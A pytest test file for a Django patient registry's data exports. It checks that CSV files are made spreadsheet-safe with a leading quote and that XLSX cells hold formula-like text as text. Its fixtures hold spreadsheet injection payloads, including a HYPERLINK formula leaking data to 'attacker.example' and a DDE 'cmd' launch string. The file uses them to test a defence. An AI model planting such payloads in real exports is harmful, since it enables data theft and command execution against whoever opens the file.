"""Formula-like text in the data never runs in a spreadsheet (issue 20, item 11).

The exports page offers XLSX first and makes its CSV files spreadsheet-safe by default
(OWASP's leading ``'``), with raw CSV on request; the API and ``manage.py export`` are for
programs and always give the data exactly as stored.
"""

from __future__ import annotations

import io
import re
import zipfile
from datetime import date
from decimal import Decimal

import pytest
from django.core.management import call_command
from openpyxl import Workbook, load_workbook

from exchange.tests.helpers import read_csv, zip_members
from exchange.writers import XlsxBook, csv_chunks, csv_value, spreadsheet_safe_value
from patients.models import Visit
from registry.tests.api.helpers import api
from treatments.models import Series

pytestmark = pytest.mark.django_db

LINK = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")'
EXAMINER = "@SUM(1+1)*cmd|' /C calc'!A0"
PRODUCT = "+IVIg"


@pytest.fixture
def poisoned(treated):
    treated.notes = LINK
    treated.save()
    Visit.objects.filter(patient=treated).update(examiner=EXAMINER)
    Series.objects.filter(patient=treated).update(product=PRODUCT)
    return treated


def body(response) -> bytes:
    return b"".join(response.streaming_content) if response.streaming else response.content


@pytest.mark.parametrize("text", [LINK, EXAMINER, PRODUCT, "-2+3", "-cmd", "\t=1+1",
                                  "\r=1+1", "=", "@"])
def test_a_formula_like_text_gets_a_leading_quote(text):
    assert spreadsheet_safe_value(text) == "'" + text


@pytest.mark.parametrize("value", [-1, Decimal("-2.5"), -0.5, "-1", "+2.5", "-.5", "1-2",
                                   "Dr -", "", None, True, False, date(1994, 1, 10),
                                   "a=b", "'=quoted already is text"])
def test_numbers_and_plain_text_are_written_as_in_raw_csv(value):
    assert spreadsheet_safe_value(value) == csv_value(value)


def test_csv_is_raw_unless_asked_to_be_spreadsheet_safe():
    rows = [[{"text": LINK, "number": -1, "decimal": Decimal("-2.50")}]]
    raw = "".join(csv_chunks(["text", "number", "decimal"], iter(rows)))
    safe = "".join(csv_chunks(["text", "number", "decimal"], iter(rows), spreadsheet_safe=True))
    assert read_csv(raw) == [{"text": LINK, "number": "-1", "decimal": "-2.50"}]
    assert read_csv(safe) == [{"text": "'" + LINK, "number": "-1", "decimal": "-2.50"}]


def test_the_page_csv_is_spreadsheet_safe_by_default(client, data_manager, poisoned):
    client.force_login(data_manager)
    patients = read_csv(body(client.get("/exports/patients.csv")))
    visits = read_csv(body(client.get("/exports/visits.csv")))
    assert patients[0]["notes"] == "'" + LINK
    assert patients[0]["birth_year"] == "1960"
    assert {v["examiner"] for v in visits} == {"'" + EXAMINER}
    members = zip_members(body(client.get("/exports/all.zip")))
    assert read_csv(members["patients.csv"])[0]["notes"] == "'" + LINK
    assert {s["product"] for s in read_csv(members["series.csv"])} == {"'" + PRODUCT}


def test_the_page_csv_is_raw_on_request(client, data_manager, poisoned):
    client.force_login(data_manager)
    patients = read_csv(body(client.get("/exports/patients.csv", {"csv": "raw"})))
    assert patients[0]["notes"] == LINK
    members = zip_members(body(client.get("/exports/all.zip", {"csv": "raw"})))
    assert {v["examiner"] for v in read_csv(members["visits.csv"])} == {EXAMINER}


def test_an_unknown_csv_choice_is_a_400_naming_it(client, data_manager, poisoned):
    client.force_login(data_manager)
    response = client.get("/exports/patients.csv", {"csv": "excel"})
    assert response.status_code == 400
    assert b"csv" in response.content


def test_the_page_offers_xlsx_first_and_states_the_csv_choice(client, data_manager, treated):
    client.force_login(data_manager)
    page = client.get("/exports/").content.decode()
    assert page.index("/exports/all.xlsx") < page.index("/exports/all.zip")
    assert page.index("/exports/patients.xlsx") < page.index("/exports/patients.csv")
    assert re.search(r'<input type="radio" name="csv" value="spreadsheet"[^>]*checked', page)
    assert "raw CSV for programs" in page and "safe to open in Excel" in page
    raw = client.get("/exports/", {"csv": "raw"}).content.decode()
    assert re.search(r'<input type="radio" name="csv" value="raw"[^>]*checked', raw)
    assert "/exports/patients.csv?csv=raw" in raw and "/exports/all.zip?csv=raw" in raw
    assert "exactly as stored" in raw


def test_the_api_csv_is_raw(researcher, poisoned):
    client = api(researcher)
    assert read_csv(body(client.get("/api/v1/exports/patients/")))[0]["notes"] == LINK
    members = zip_members(body(client.get("/api/v1/exports/all/")))
    assert {v["examiner"] for v in read_csv(members["visits.csv"])} == {EXAMINER}


def test_the_command_csv_is_raw(tmp_path, poisoned):
    out = io.StringIO()
    call_command("export", "patients", "series", "--out", str(tmp_path / "x"), stdout=out)
    assert read_csv((tmp_path / "x/patients.csv").read_bytes())[0]["notes"] == LINK
    call_command("export", "--out", str(tmp_path / "x.zip"), stdout=out)
    with zipfile.ZipFile(tmp_path / "x.zip") as archive:
        products = {s["product"] for s in read_csv(archive.read("series.csv"))}
    assert products == {PRODUCT}


def test_openpyxl_would_write_a_formula_without_the_guard():
    """Why ``XlsxBook`` marks such cells as text: openpyxl takes ``=…`` for a formula."""
    book = Workbook(write_only=True)
    book.create_sheet("s").append([LINK])
    target = io.BytesIO()
    book.save(target)
    assert "<f>" in _sheet_xml(target.getvalue())


@pytest.mark.parametrize("path", ["/exports/all.xlsx", "/exports/patients.xlsx"])
def test_the_page_xlsx_writes_formula_like_text_as_text(client, data_manager, poisoned, path):
    client.force_login(data_manager)
    data = body(client.get(path))
    assert "<f>" not in _sheet_xml(data)
    sheet = load_workbook(io.BytesIO(data))["patients"]
    header = [cell.value for cell in sheet[1]]
    notes = sheet.cell(row=2, column=header.index("notes") + 1)
    year = sheet.cell(row=2, column=header.index("birth_year") + 1)
    assert (notes.value, notes.data_type) == (LINK, "s")  # as stored: no quote in XLSX
    assert (year.value, year.data_type) == (1960, "n")


def test_the_xlsx_writer_keeps_every_formula_prefix_as_text_and_numbers_as_numbers():
    book = XlsxBook()
    texts = [LINK, EXAMINER, PRODUCT, "-cmd", "\t=1+1"]
    book.sheet("s", ["t", "n", "d"], [[{"t": text, "n": -1, "d": Decimal("-2.5")}
                                       for text in texts]])
    target = io.BytesIO()
    book.save(target)
    assert "<f>" not in _sheet_xml(target.getvalue())
    rows = list(load_workbook(target)["s"].iter_rows(min_row=2))
    assert [(r[0].value, r[0].data_type) for r in rows] == [(t, "s") for t in texts]
    assert {(r[1].value, r[1].data_type, r[2].value) for r in rows} == {(-1, "n", -2.5)}


def test_the_api_xlsx_writes_formula_like_text_as_text(researcher, poisoned):
    data = body(api(researcher).get("/api/v1/exports/series/", {"format": "xlsx"}))
    assert "<f>" not in _sheet_xml(data)
    sheet = load_workbook(io.BytesIO(data))["series"]
    header = [cell.value for cell in sheet[1]]
    product = sheet.cell(row=2, column=header.index("product") + 1)
    assert (product.value, product.data_type) == (PRODUCT, "s")


def _sheet_xml(data: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return "".join(archive.read(name).decode() for name in archive.namelist()
                       if name.startswith("xl/worksheets/"))
